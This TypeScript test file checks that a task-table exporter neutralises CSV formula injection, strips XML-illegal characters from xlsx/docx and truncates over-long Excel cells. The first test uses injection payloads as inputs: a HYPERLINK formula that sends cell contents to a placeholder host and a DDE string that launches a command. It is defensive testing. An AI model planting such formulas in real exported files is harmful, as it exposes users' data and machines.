// Issue 12: what the exported table must not do in the program that opens it — formulas in CSV,
// XML-illegal characters in xlsx/docx, cells over Excel's limit. Each file is read back by a
// strict reader (csv-parse, saxes for every XML part, exceljs, mammoth).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { SaxesParser } from 'saxes';
import ExcelJS from 'exceljs';
import mammoth from 'mammoth';
import { parsePlan } from '../../server/src/engine/index.js';
import { buildTaskTable } from '../../server/src/table/build.js';
import { renderTable } from '../../server/src/table/render.js';
import { XLSX_CELL_LIMIT, csvSafe, xlsxCell, xmlSafe } from '../../server/src/table/sanitize.js';
import { fengong, tempDir } from '../cli/helpers.js';

const plan = (tasks: string[]) => parsePlan(`2024年工作要点\n一、重点任务\n${tasks.map((t, i) => `${i + 1}. ${t}（办公室负责）`).join('\n')}\n`);

test('csv: cells starting with = + - @ are prefixed with \' (OWASP), the rest untouched; read back by csv-parse', () => {
  const dir = tempDir();
  const tasks = ['=HYPERLINK("http://x.example/?"&A1,"点击")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '加强=管理'];
  writeFileSync(join(dir, 'plan.txt'), `2024年工作要点\n一、重点任务\n${tasks.map((t, i) => `${i + 1}. ${t}（办公室负责）`).join('\n')}\n`);
  const r = fengong(['table', 'plan.txt', '-f', 'csv'], { cwd: dir });
  assert.equal(r.code, 0, r.stderr);
  const rows = parse(r.stdout.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][];
  assert.deepEqual(rows.slice(1).map((row) => row[1]), [`'=HYPERLINK("http://x.example/?"&A1,"点击")`, `'+SUM(1+1)*cmd|' /C calc'!A0`, `'-2+3`, `'@SUM(A1)`, '加强=管理']);
  assert.equal(csvSafe(5), 5);
  assert.equal(csvSafe('\tx'), "'\tx");
  assert.equal(csvSafe('\rx'), "'\rx");
});

/** Every XML part of an OOXML file parsed by a strict XML parser: throws on an illegal character. */
function strictXml(buf: Buffer): void {
  for (const [name, bytes] of Object.entries(unzipSync(buf))) {
    if (!/\.(xml|rels)$/.test(name)) continue;
    const p = new SaxesParser({ xmlns: true });
    p.on('error', (e) => { throw new Error(`${name}: ${e.message}`); });
    p.write(strFromU8(bytes)).close();
  }
}

const HOSTILE = '加强\ufffe管理\uffff，\u0001落\u0008实\u001f责任\ud800';

test('xlsx and docx: U+FFFE, U+FFFF, C0 controls and lone surrogates dropped; every XML part well-formed', async () => {
  const t = buildTaskTable(plan([HOSTILE]));
  const xlsx = await renderTable(t, 'xlsx', 'task');
  strictXml(xlsx);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
  const values = wb.worksheets[0]!.getSheetValues().flat().map(String);
  assert.ok(values.includes('加强管理，落实责任'), values.join('|'));
  const docx = await renderTable(t, 'docx', 'task');
  strictXml(docx);
  assert.match((await mammoth.convertToHtml({ buffer: docx })).value, /<td><p>加强管理，落实责任<\/p><\/td>/);
  assert.equal(xmlSafe('a\tb\nc\r😀'), 'a\tb\nc\r😀');
});

test('xlsx: a cell over 32,767 characters is cut at the limit and says how long it was', async () => {
  const long = '加强管理'.repeat(10_000) + '。';
  const t = buildTaskTable(plan([long]));
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(await renderTable(t, 'xlsx', 'task') as unknown as ArrayBuffer);
  const cell = wb.worksheets[0]!.getSheetValues().flat().map(String).find((v) => v.startsWith('加强管理加强'))!;
  assert.equal(cell.length, XLSX_CELL_LIMIT);
  assert.ok(cell.endsWith(`……（超过 Excel 单元格上限 32767 字，已截断；原文 ${t.tasks[0]!.text.length} 字）`), cell.slice(-40));
  assert.equal(xlsxCell('😀'.repeat(20_000), 'en').length <= XLSX_CELL_LIMIT, true);
  assert.doesNotMatch(xlsxCell('😀'.repeat(20_000), 'en'), /[\ud800-\udbff](?![\udc00-\udfff])/);
});
